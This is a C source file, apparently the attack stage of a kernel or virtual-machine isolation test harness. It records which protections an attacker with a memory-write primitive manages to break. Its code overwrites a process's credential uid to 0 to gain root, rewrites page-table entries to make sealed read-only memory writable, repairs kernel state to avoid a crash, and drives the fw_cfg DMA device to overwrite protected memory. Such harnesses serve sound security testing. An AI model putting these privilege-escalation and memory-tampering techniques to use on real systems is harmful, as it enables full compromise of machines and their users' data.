/* What an attacker does with what a store may have given it. */
#include "use.h"

#include <unistd.h>

#include "places.h"

enum {
	PORT_SCRATCH = 0x2ff /* a byte that COM2 keeps */,
	PORT_DMA_HIGH = 0x514,
	PORT_DMA_LOW = 0x518
};
/* fw_cfg: the item to read, and what to do with it. Words are big-endian. */
enum { DMA_READ = 2, DMA_SELECT = 8, DMA_ITEM_SIGNATURE = 0 };
enum { IOPL_SHIFT = 12, IOPL_USER = 3, WORDS = PAGE / 8, OTHER_VALUE = 0x0bad };

/* The page tables that lead to the attacker's page lie in its page: it looks at sealed memory. */
static void use_table(volatile uint64_t *words)
{
	unsigned index = board->self.page / PAGE % WORDS;
	volatile uint64_t *page = (volatile uint64_t *)board->self.page;

	if ((words[index] & ENTRY_MASK) != board->self.page_pfn * PAGE ||
	    !(words[index] & ENTRY_PRESENT)) {
		return;
	}
	words[index] = (words[index] & ~ENTRY_MASK) | ENTRY_WRITABLE |
		       board->self.sealed.of_mode[BW_SEALED_RO].pfn * PAGE;
	(void)getuid(); /* the processor forgets the old translation */
	if (page[board->self.sealed.of_mode[BW_SEALED_RO].object % PAGE / 8] == BW_SEALED_VALUE) {
		page[board->self.sealed.of_mode[BW_SEALED_RO].object % PAGE / 8] = OTHER_VALUE;
	}
}

/* So that the machine lives on, and can tell: the kernel took the frame for a free one, and must
 * not free it again. */
static void keep_alive(const volatile void *page)
{
	uint64_t places[LEVELS];

	if (board->row == 0) {
		return;
	}
	walk(root_of(&board->self), (uint64_t)page, places);
	bw_vuln_write(places[LEVELS - 1], 0);
	bw_vuln_write(board->row, board->row_words[0]);
	bw_vuln_write(board->row + sizeof(uint64_t), board->row_words[1]);
}

/* Credentials: this process becomes root. */
static void use_credentials(volatile uint64_t *words)
{
	uint64_t entry = board->self.leak.process_uid % PAGE - BW_OFFSET_credential__who_uid;
	const volatile uint64_t *holder =
		&words[(entry + BW_OFFSET_credential__holder) % PAGE / sizeof(uint64_t)];
	volatile uint32_t *uid =
		(volatile uint32_t *)((uint64_t)words + board->self.leak.process_uid % PAGE);

	if (*holder == board->self.leak.process && *uid == ATTACKER) {
		*uid = 0;
		(void)getuid();
		*uid = ATTACKER;
		keep_alive(words);
	}
}

/* Where mmap leads who mistakes its own memory: all processes have it, and the secret is there. */
static bool is_on_board(const volatile void *page)
{
	return (uint64_t)page - (uint64_t)board < sizeof(*board);
}

void use_page(volatile void *page)
{
	volatile uint64_t *words = page;

	if (is_on_board(page)) {
		return;
	}
	for (unsigned i = 0; i < WORDS; i++) {
		uint64_t word = words[i];

		if (word == board->secret) {
			note(FACT_READ);
			words[i] = OTHER_VALUE;
			return;
		}
		if (word == BW_SEALED_VALUE) {
			words[i] = OTHER_VALUE;
			return;
		}
	}
	use_credentials(words);
	use_table(words);
}

static void out_long(uint16_t port, uint32_t value)
{
	__asm__ volatile("outl %0, %1" : : "a"(value), "d"(port));
}

/* A device writes over sealed memory. */
static void write_by_dma(void)
{
	static volatile uint64_t request[PAGE / 8] __attribute__((aligned(PAGE)));
	const struct bw_sealed_object *sealed = &board->self.sealed.of_mode[BW_SEALED_RO];
	uint64_t at;

	request[0] = (uint64_t)__builtin_bswap32(DMA_ITEM_SIGNATURE << 16 | DMA_SELECT | DMA_READ) |
		     (uint64_t)__builtin_bswap32(4) << 32;
	request[1] = __builtin_bswap64(sealed->pfn * PAGE + sealed->object % PAGE);
	bw_pagemap((const void *)request, &at);
	at *= PAGE;
	out_long(PORT_DMA_HIGH, __builtin_bswap32((uint32_t)(at >> 32)));
	out_long(PORT_DMA_LOW, __builtin_bswap32((uint32_t)at));
}

void use_flags(void)
{
	uint64_t flags;

	__asm__ volatile("pushfq\n\tpop %0" : "=r"(flags));
	if ((flags >> IOPL_SHIFT & IOPL_USER) == IOPL_USER) {
		write_by_dma();
		use_ports();
	}
}

void use_ports(void)
{
	uint8_t value = (uint8_t)getpid() | 1, found;

	__asm__ volatile("outb %0, %1" : : "a"(value), "d"((uint16_t)PORT_SCRATCH));
	__asm__ volatile("inb %1, %0" : "=a"(found) : "d"((uint16_t)PORT_SCRATCH));
	if (found == value) {
		note(FACT_PORT);
	}
}
